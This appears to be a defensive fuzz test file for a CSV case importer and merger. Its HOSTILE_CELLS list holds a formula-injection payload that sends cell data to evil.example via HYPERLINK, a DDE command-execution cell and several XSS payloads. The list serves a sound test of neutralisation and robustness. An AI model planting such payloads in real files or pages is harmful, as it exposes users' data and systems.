/**
 * Hostile input for the CSV importer and merge (issue 8), with fast-check. The boundary is
 * `CaseMerger.addFile` (what the workbench's merge worker and `npm run merge` call): whatever the
 * bytes, it returns a report and never throws; each call is timed and must finish within a bound; and
 * every valid row that was written comes out (or is accounted for as superseded or rejected).
 * Run sizes are kept small so the whole file takes well under 30 s on a loaded CI machine.
 */
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { mergedCsv } from '../../lib/csv/export';
import { CaseMerger } from '../../lib/csv/merge';
import { readAll, utf8 } from './csv-helpers';

/** Per call, generous for a shared 2-core machine; a hang or quadratic blow-up exceeds it by far. */
const CASE_BOUND_MS = 3_000;

function timedAdd(merger: CaseMerger, name: string, bytes: Uint8Array) {
  const started = performance.now();
  const report = merger.addFile({ name, bytes });
  const millis = performance.now() - started;
  expect(millis, `${name}: ${bytes.length} bytes took ${millis.toFixed(0)} ms`).toBeLessThan(CASE_BOUND_MS);
  return report;
}

function expectAccounted(merger: CaseMerger): void {
  const summary = merger.summary();
  expect(summary.rowsIn).toBe(summary.rowsOut + summary.superseded + summary.rejected);
  for (const file of merger.files) {
    if (file.status === 'refused') expect(file.refusal).toMatch(new RegExp(`^${file.name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} was not merged: .+`));
  }
}

/** Cells a hostile export might hold. */
const HOSTILE_CELLS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'a\u0000b\u0000',
  '\u0000',
  '\uFEFF',
  '\u001F',
  'line one\nline two\r\nline three',
  '"quoted" "twice"',
  ',;\t,;\t',
  '🚀 中文 ß £ “curly”',
  '\uD800', // a lone surrogate: TextEncoder writes U+FFFD
  'x'.repeat(5_000),
];

const hostileCell = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_CELLS), weight: 3 },
  { arbitrary: fc.string({ maxLength: 30, unit: 'binary' }), weight: 3 },
  { arbitrary: fc.constant(''), weight: 1 },
);

/** A header with the key column somewhere, plus hostile or unknown column names. */
const headerColumns = fc.array(fc.oneof(fc.constantFrom('Case stage', 'Business name', 'Enquiry date', 'Notes', '=cmd', '<b>x</b>', ''), fc.string({ maxLength: 12 })), { maxLength: 6 });

describe('random bytes', () => {
  it('any bytes: a report, never a throw, every row counted', () => {
    fc.assert(
      fc.property(
        fc.constantFrom('', 'Case reference,Case stage\r\n', '\uFEFFCase reference;Notes\n', 'Case reference\t"Notes\n'),
        fc.uint8Array({ maxLength: 4_000 }),
        fc.constantFrom('utf8', 'utf16le-bom', 'raw'),
        (prefix, noise, form) => {
          const head = form === 'utf16le-bom' ? new Uint8Array([0xff, 0xfe, ...new Uint8Array(new Uint16Array([...prefix].map((c) => c.charCodeAt(0))).buffer)]) : utf8(prefix);
          const bytes = new Uint8Array([...head, ...noise]);
          const merger = new CaseMerger();
          const report = timedAdd(merger, 'noise.csv', bytes);
          expect(['merged', 'refused']).toContain(report.status);
          expectAccounted(merger);
          // The result exports and reads back without losing a case.
          const again = readAll({ name: 'again.csv', bytes: utf8(mergedCsv(merger)) });
          if (merger.size > 0) expect(again.rows).toHaveLength(merger.size);
        },
      ),
      { numRuns: 120 },
    );
  });
});

describe('adversarial exports', () => {
  it('valid rows with hostile cells, invalid UTF-8 and NUL bytes: every reference comes out, with its cells when the file is UTF-8', () => {
    fc.assert(
      fc.property(
        headerColumns,
        fc.nat(),
        fc.array(fc.array(hostileCell, { minLength: 7, maxLength: 7 }), { minLength: 1, maxLength: 25 }),
        fc.constantFrom(',', ';', '\t'),
        fc.constantFrom('none', 'invalid-utf8', 'nul-bytes'),
        (columns, keyAt, rows, delimiter, damage) => {
          const header = [...columns];
          const key = keyAt % (header.length + 1);
          header.splice(key, 0, 'Case reference');
          const data = rows.map((cells, index) => header.map((_, column) => (column === key ? `PNX-${1000 + index}-AB${index % 10}` : cells[column]!)));
          let bytes = utf8(Papa.unparse({ fields: header, data }, { delimiter, newline: '\r\n' }));
          if (damage === 'invalid-utf8') bytes = new Uint8Array([...bytes, 0x0d, 0x0a, 0xff, 0xc3, 0x28, 0x0d, 0x0a]); // a row of invalid UTF-8 after the last one
          if (damage === 'nul-bytes') bytes = new Uint8Array([...bytes].flatMap((byte, i) => (i % 97 === 50 && byte !== 0x22 ? [byte, 0] : [byte])));

          const merger = new CaseMerger();
          const report = timedAdd(merger, 'hostile.csv', bytes);
          expectAccounted(merger);
          if (report.status === 'refused') {
            // Only the header can make a file not a case export; a valid header must not be refused.
            expect(header.filter((name) => name === 'Case reference')).toHaveLength(1);
            expect(damage === 'nul-bytes' || columns.some((name) => /case\s*reference/i.test(name)), report.refusal).toBe(true);
            return;
          }
          const references = new Set(merger.rows.map((_, index) => merger.cellsOf(index)[merger.columns.findIndex((column) => column.name === 'Case reference')]!.trim()));
          for (const row of data) {
            const reference = row[key]!;
            if (damage === 'nul-bytes') continue; // a NUL may land inside a reference: counted above, not compared
            expect(references.has(reference), `${reference} missing`).toBe(true);
          }
          if (damage === 'none') {
            expect(report.encoding).toMatch(/^UTF-8/);
            expect(merger.summary().rowsOut).toBe(data.length);
            // Each cell as written (a lone surrogate was already U+FFFD in the file's bytes).
            // One file into a fresh merger: its columns are the file's, in the file's order.
            expect(merger.columns).toHaveLength(header.length);
            data.forEach((row, index) => {
              const asBytes = row.map((cell) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(utf8(cell)));
              expect(merger.cellsOf(index)).toEqual(asBytes);
            });
          }
        },
      ),
      { numRuns: 80 },
    );
  });

  it('an unbalanced quote: the rows before it are kept and the reader says where the quote opened', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 30 }), fc.string({ maxLength: 40 }), (count, tail) => {
        const lines = ['Case reference,Notes'];
        for (let i = 0; i < count; i += 1) lines.push(`PNX-${i}-AAAA,ok ${i}`);
        lines.push(`PNX-broken-ZZZZ,"never closed ${tail.replace(/"/g, '')}`, 'PNX-after-YYYY,swallowed');
        const merger = new CaseMerger();
        const report = timedAdd(merger, 'quote.csv', utf8(lines.join('\r\n')));
        expectAccounted(merger);
        expect(report.status).toBe('merged');
        expect(report.warningCounts['unclosed-quote']).toBe(1);
        const references = merger.rows.map((_, index) => merger.cellsOf(index)[0]);
        for (let i = 0; i < count; i += 1) expect(references).toContain(`PNX-${i}-AAAA`);
      }),
      { numRuns: 40 },
    );
  });

  it('formula, HTML and script cells go out neutralised and come back as written', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...HOSTILE_CELLS.filter((cell) => !cell.includes('\u0000') && !cell.includes('\uD800'))), { minLength: 1, maxLength: 10 }), (cells) => {
        const data = cells.map((cell, index) => [`PNX-${index}-CCCC`, cell]);
        const merger = new CaseMerger();
        timedAdd(merger, 'f.csv', utf8(Papa.unparse({ fields: ['Case reference', 'Notes'], data })));
        const out = mergedCsv(merger);
        const parsed = Papa.parse<string[]>(out.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data.slice(1);
        for (const row of parsed) for (const cell of row) expect(cell, 'a cell a spreadsheet would run').not.toMatch(/^[=+\-@\t\r]/);
        const again = readAll({ name: 'again.csv', bytes: utf8(out) });
        expect(again.rows.map((row) => row.cells[again.header!.columns.findIndex((c) => c.name === 'Notes')])).toEqual(cells);
      }),
      { numRuns: 30 },
    );
  });
});

describe('delimiter detection', () => {
  // Case reference the only known header, and the other header empty or itself a delimiter: once
  // trimmed, "Case reference" is a known name under every split, so the split that leaves another
  // delimiter inside the known cell must lose (these were read as ',' and the comma row rejected).
  it.each([
    ['an empty trailing header', 'Case reference\t\r\nPNX-1-AAAA\t"a, b"\r\n', '\t'],
    ['a trailing header that is a comma', 'Case reference\t,\r\nPNX-1-AAAA\ta,b\r\n', '\t'],
    ['a trailing header that is a semicolon', 'Case reference\t;\r\nPNX-1-AAAA\ta;b\r\n', '\t'],
    ['semicolons and a comma header', 'Case reference;,\r\nPNX-1-AAAA;a,b\r\n', ';'],
    ['commas and a whitespace header', 'Case reference, \t\r\nPNX-1-AAAA,"a;b"\r\n', ','],
  ])('%s: read with the right delimiter and every row merged', (_, text, delimiter) => {
    const merger = new CaseMerger();
    const report = timedAdd(merger, 'file.csv', utf8(text));
    expect(report.delimiter).toBe(delimiter);
    expect(merger.summary()).toMatchObject({ rowsOut: 1, rejected: 0 });
  });
});

describe('size', () => {
  it.each([
    ['10,000 columns', 10_000, 3, 4],
    ['a 2 MB field', 2, 2, 2_000_000],
  ])('%s: merged within the bound, every row and cell kept', (_, width, rowCount, cellLength) => {
    const header = ['Case reference', ...Array.from({ length: width - 1 }, (_, i) => `Column ${i}`)];
    const rows = Array.from({ length: rowCount }, (_, r) => [`PNX-${r}-DDDD`, ...Array.from({ length: width - 1 }, (_, c) => `${r}.${c}`.padEnd(cellLength, 'x'))]);
    const merger = new CaseMerger();
    const report = timedAdd(merger, 'wide.csv', utf8(Papa.unparse({ fields: header, data: rows })));
    expect(report.status, report.refusal).toBe('merged');
    expect(merger.summary()).toMatchObject({ rowsIn: rowCount, rowsOut: rowCount, rejected: 0 });
    expect(merger.columns).toHaveLength(width);
    for (let r = 0; r < rowCount; r += 1) expect(merger.cellsOf(r)).toEqual(rows[r]);
  });
});
